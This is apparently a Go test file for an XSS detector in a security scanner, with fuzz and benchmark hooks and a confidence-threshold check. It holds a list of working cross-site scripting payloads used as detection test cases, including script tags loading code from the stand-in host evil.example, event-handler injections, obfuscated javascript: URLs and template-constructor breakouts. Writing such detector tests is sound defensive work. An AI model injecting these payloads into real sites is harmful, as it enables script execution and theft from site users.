package xss_test

import (
	"testing"

	"github.com/meshwarden/meshwarden/internal/scan/match"
	"github.com/meshwarden/meshwarden/internal/scan/match/matchtest"
	"github.com/meshwarden/meshwarden/internal/scan/xss"
)

var family = matchtest.Family{
	Find:     xss.Find,
	Triggers: xss.Triggers,
	Attacks: []matchtest.Attack{
		{Rule: "script_element", Text: "<script>steal()</script>"},
		{Rule: "script_element", Text: "<SCRIPT/x SRC=//evil.example/a.js>"},
		{Rule: "script_element", Text: "<\x00script>go(1)"},
		{Rule: "event_handler", Text: "<img src=x onerror=go()>"},
		{Rule: "event_handler", Text: "<b/onpointerrawupdate='go()'>x"},
		{Rule: "event_handler", Text: `<p title="a>b" onfocusin=go(1)>`},
		{Rule: "event_handler", Text: "<img src=x\\x09onerror=go()>"},
		{Rule: "unknown_handler", Text: "<x onwhatever=go()>"},
		{Rule: "script_url", Text: "<a href='java\tscript:go()'>x</a>"},
		{Rule: "script_url", Text: "<a href=&#106;avascript&colon;go()>x</a>"},
		{Rule: "script_url", Text: "javascript:go(1)"},
		{Rule: "script_url", Text: "[click](javascript:alert(1))"},
		{Rule: "data_url", Text: "<a href='data:text/html,<b>'>x</a>"},
		{Rule: "srcdoc", Text: "<iframe srcdoc='&lt;b&gt;'>"},
		{Rule: "style_code", Text: "<p style='width:expr/**/ession(go())'>"},
		{Rule: "style_code", Text: "<style>@import'//evil.example/a.css'</style>"},
		{Rule: "meta_refresh", Text: "<meta http-equiv=refresh content='0;url=javascript:go()'>"},
		{Rule: "animated_attribute", Text: "<svg><set attributeName=href to=x>"},
		{Rule: "embedded_document", Text: "<iframe src=//evil.example>"},
		{Rule: "loose_handler", Text: `" onmouseover="alert(1)`},
		{Rule: "string_breakout", Text: `';alert(1)//`},
		{Rule: "template_constructor", Text: "{{constructor.constructor('go()')()}}"},
	},
	Benign: []string{
		"a < b and c > d", "<b>bold</b> <i>it</i>", `<a href="https://example.com/?a=1&b=2" title="x">link</a>`, `<img src="a.png" alt="cat" width=5>`,
		"<p style='color:red;background:url(a.png)'>x</p>", "x <- y; if (a<b) return", "JavaScript: The Good Parts",
		"The <script> element and the onclick attribute.",
		"data:image/png;base64,iVBORw0KGgo=", "<table><tr><td>1</td></tr></table>",
		"button.onclick = function() { save(); };", `<Button onClick={() => save()}>`,
		"Generic<String> list = new List<String>();", "<!-- comment -->", "It's on: alert the team (now).",
		"{{user.name}} has ${count} items", "on error resume next",
		"<ul><li>one</li><li>two</li></ul><hr/><pre>code</pre>", `<meta http-equiv="refresh" content="5; url=/next">`,
		"online=true", `<ontology onset="yes"></ontology>`, "I <3 you",
	},
	Worst: []string{"<", "<a ", "<a x=\"", "<a x='<b y=\"", "<a \"", "<script ", "<a href=", "<a href=&Tab;", "on", "onload=", "{{", "${", "\\x3c", "':", "';", "script:", "<style>", "<a style=\"/*", "<meta content=;", "\"'`"},
}

func TestFamily(t *testing.T) { matchtest.Run(t, family) }

func FuzzFind(f *testing.F) { matchtest.Fuzz(f, family, false) }

func BenchmarkFind(b *testing.B) { matchtest.Bench(b, family) }

// A profile for editors of HTML puts its threshold between what shows another document and what runs a
// script; matches must keep to that ladder.
func TestOnlyScriptsAreAboveEmbeddedDocuments(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		text   string
		script bool
	}{
		{"<iframe src=https://video.example/embed/1></iframe>", false},
		{"<base href=//evil.example/>", false},
		{"<object data=a.pdf></object>", false},
		{"<iframe src=javascript:go()>", true},
		{"<svg onload=go()>", true},
	} {
		var best match.Match
		for _, m := range xss.Find([]byte(tt.text), nil) {
			if m.Confidence > best.Confidence {
				best = m
			}
		}
		if best.Confidence == 0 || (best.Confidence > matchtest.Block) != tt.script {
			t.Errorf("%q: %.2f by %s; script: %v", tt.text, best.Confidence, best.Rule, tt.script)
		}
	}
}
